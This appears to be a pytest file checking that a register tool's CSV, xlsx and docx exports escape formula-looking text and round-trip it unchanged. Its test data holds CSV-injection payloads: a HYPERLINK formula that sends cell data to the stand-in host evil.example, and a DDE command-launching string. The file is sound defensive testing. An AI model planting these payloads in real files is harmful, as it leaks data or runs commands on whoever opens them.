"""Text that a spreadsheet would run as a formula stays text in every CSV, xlsx and docx written."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from docx import Document
from openpyxl import load_workbook
from sqlmodel import Session

from bot.cli.main import main
from bot.setup import PARTNERS, import_file
from handlers.register.import_export import (
    FORMULA_STARTS,
    as_spreadsheet_text,
    export_csv,
    export_records,
    from_spreadsheet_text,
    read_rows,
)
from models.boards import get_board
from models.db import make_engine
from models.migrate import upgrade
from tests.conftest import COLP, NOW, SECRETARIAT

EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
# The command, as a lead partner types it (the doubled quotes are how Excel writes them).
TYPED_EXFILTRATE = (
    'action update A-9 rag=red barriers="=HYPERLINK(""http://evil.example/?d=""&A2,'
    '""Click for details"")"'
)
# Texts a spreadsheet would run, and texts that must come back with their apostrophes.
TRICKY = (
    EXFILTRATE,
    "=1+1",
    "+1 analyst post funded",
    "-5 arrests since the last meeting",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'tis done",
    "'=already marked as text",
    "''",
    "'-",
    "Safe text with = and - inside",
)


def tricky_register() -> list[dict]:
    """A register in the JSON interchange format whose every free-text field starts badly."""
    return [
        {
            "area": "=Cyber attack" if number == 1 else "Cyber attack",
            "issue": f"{text} #{number}",  # issue and action tell the rows apart
            "action": text,
            "barriers": text,
            "outcomes": text,
            "leads": ["CoLP"],
            "strands": ["pursue"],
            "rag": "red",
            "due": "2027-03-31",
            "confidential": False,
        }
        for number, text in enumerate(TRICKY, start=1)
    ]


def without_timestamps(records: list[dict]) -> list[dict]:
    """Export records without the times (CSV does not carry them)."""
    return [{k: v for k, v in r.items() if k not in ("created_at", "updated_at")} for r in records]


def records_of(engine, settings) -> list[dict]:
    """The register as export records."""
    with Session(engine) as session:
        board = get_board(session=session, slug=settings.board_slug)
        return export_records(session, board) if board else []


def fresh_engine(path: Path):
    """A migrated, empty SQLite database at `path`."""
    engine = make_engine(f"sqlite:///{path}")
    upgrade(engine)
    return engine


def csv_cells(text: str) -> list[str]:
    """Every cell of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula_cell(text: str) -> None:
    """No cell of the CSV starts with what a spreadsheet reads as a formula."""
    dangerous = [cell for cell in csv_cells(text) if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous


@pytest.fixture
def cli(monkeypatch, database_url, tmp_path):
    """Run `soc-bot` on the test database an hour after NOW; returns the file it wrote."""
    monkeypatch.setenv("DATABASE_URL", database_url)

    def run(*args: str, name: str) -> Path:
        output = tmp_path / name
        with time_machine.travel(NOW + timedelta(hours=1), tick=False):
            assert main([*args, "--output", str(output)]) == 0
        return output

    return run


@pytest.fixture
def typed(console):
    """The test Board after partners typed formula-looking text into actions and notes."""
    lines = [
        (COLP, TYPED_EXFILTRATE),
        (COLP, 'action update A-1 outcomes="-5 arrests" action="@SUM(A1:A9)"'),
        (COLP, "action note A-9 =1+2 people seen at the port"),
        (COLP, 'action update A-1 barriers="\'=already marked as text"'),
        (SECRETARIAT, 'action update A-3 title="+1 analyst post"'),
        (SECRETARIAT, "meeting add 9/2/2027 10:00"),
    ]
    for user, line in lines:
        reply = console.as_user(user).ask(line)
        assert not reply.error, f"{line}: {reply.title} {reply.hint}"
    return console.engine


# --- the escape itself -------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*TRICKY, "", "plain", "\tTabbed", "\rReturn", "'\tx"])
def test_escaped_text_reads_back_exactly_and_never_starts_a_formula(text):
    written = as_spreadsheet_text(text)
    assert not written.startswith(FORMULA_STARTS)
    assert from_spreadsheet_text(written) == text


def test_only_formula_starts_and_ambiguous_apostrophes_are_marked():
    assert as_spreadsheet_text("=1+1") == "'=1+1"
    assert as_spreadsheet_text("-5 arrests") == "'-5 arrests"
    assert as_spreadsheet_text("'tis done") == "'tis done"  # nothing to misread: left alone
    assert as_spreadsheet_text("'=x") == "''=x"
    assert as_spreadsheet_text("A-9 and = signs") == "A-9 and = signs"


def test_a_hand_written_csv_with_a_leading_apostrophe_keeps_it(tmp_path):
    text = "Key crime area,Issues,Lead partner\nCyber attack,'tis the season,CoLP\n"
    (row,) = read_rows(text, json_format=False)
    assert row["issue"] == "'tis the season"


# --- CSV: the register -------------------------------------------------------------------------


def test_typed_formula_is_exported_as_text_and_imports_back_unchanged(
    typed, settings, cli, tmp_path
):
    original = records_of(typed, settings)
    a9 = next(r for r in original if r["ref"] == "A-9")
    assert a9["barriers"].startswith("=HYPERLINK(")
    path = cli("export", "--format", "csv", name="register.csv")
    text = path.read_text(encoding="utf-8")
    assert_no_formula_cell(text)
    assert "'" + a9["barriers"] in csv_cells(text)
    assert "'-5 arrests" in csv_cells(text)
    copy = fresh_engine(tmp_path / "copy.db")
    import_file(copy, settings, path, now=NOW, partners=PARTNERS)
    assert without_timestamps(records_of(copy, settings)) == without_timestamps(original)
    copy.dispose()


def test_every_tricky_text_round_trips_through_csv(settings, tmp_path):
    source = fresh_engine(tmp_path / "source.db")
    register = tmp_path / "tricky.json"
    register.write_text(json.dumps(tricky_register()), encoding="utf-8")
    import_file(source, settings, register, now=NOW, partners=PARTNERS)
    original = records_of(source, settings)
    assert original[0]["barriers"] == EXFILTRATE and original[0]["area"] == "=Cyber attack"
    assert {r["outcomes"] for r in original} == set(TRICKY)
    text = export_csv(original)
    assert_no_formula_cell(text)
    path = tmp_path / "tricky.csv"
    path.write_text(text, encoding="utf-8")
    copy = fresh_engine(tmp_path / "copy.db")
    import_file(copy, settings, path, now=NOW, partners=PARTNERS)
    assert without_timestamps(records_of(copy, settings)) == without_timestamps(original)
    # Importing its own export again changes nothing.
    result, _ = import_file(copy, settings, path, now=NOW, partners=PARTNERS)
    assert (result.created, result.updated) == ([], [])
    source.dispose()
    copy.dispose()


def test_unescaped_csv_would_have_been_a_formula():
    # Guards the test above: without the escape these cells do start a formula.
    record = {
        "ref": "A-1", "area": "=Cyber", "issue": EXFILTRATE, "action": "", "barriers": "",
        "outcomes": "", "leads": [], "strands": [], "rag": "none", "due": None,
        "confidential": False,
    }  # fmt: skip
    cells = csv_cells(export_csv([record]))
    assert f"'{EXFILTRATE}" in cells and "'=Cyber" in cells
    assert [from_spreadsheet_text(c) for c in cells if c.startswith("'")] == ["=Cyber", EXFILTRATE]


# --- xlsx and docx: every file the project writes ---------------------------------------------

FILES = [
    ("export", "--format", "xlsx"),
    ("export", "--format", "docx"),
    ("report", "quarterly", "--quarter", "2027Q1", "--format", "xlsx"),
    ("report", "quarterly", "--quarter", "2027Q1", "--format", "docx"),
    ("report", "pack", "--format", "xlsx"),
    ("report", "pack", "--format", "docx"),
]


def xlsx_text_cells(path: Path) -> list:
    """Every cell holding a value, in every sheet."""
    workbook = load_workbook(path)
    return [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value]


def docx_texts(path: Path) -> list[str]:
    """Every paragraph and table cell text of a .docx."""
    document = Document(path)
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return [p.text for p in document.paragraphs] + cells


@pytest.mark.parametrize("args", FILES, ids=["-".join(a[:2] + a[-1:]) for a in FILES])
def test_formula_text_stays_text_in_every_office_file(typed, settings, cli, args):
    a9 = next(r for r in records_of(typed, settings) if r["ref"] == "A-9")
    fmt = args[-1]
    path = cli(*args, name=f"paper.{fmt}")
    with zipfile.ZipFile(path) as archive:
        xml = "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())
    if fmt == "xlsx":
        cells = xlsx_text_cells(path)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = [c for c in cells if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in texts)
        marked = [c for c in texts if c.value.startswith(("=", "+", "-", "@"))]
        assert all(c.quotePrefix for c in marked), "Excel's text mark is missing"
        found = [c.value for c in marked]
        assert not re.search(r"<f[ >]", xml), "a formula element in the workbook"
    else:
        texts = docx_texts(path)
        found = [t for t in texts if t.startswith(("=", "+", "-", "@"))]
        assert "instrText" not in xml and "fldSimple" not in xml, "a Word field in the document"
    assert found, "the paper should show at least one formula-looking text"
    if args[0] == "export":
        assert a9["barriers"] in found and "-5 arrests" in found and "@SUM(A1:A9)" in found
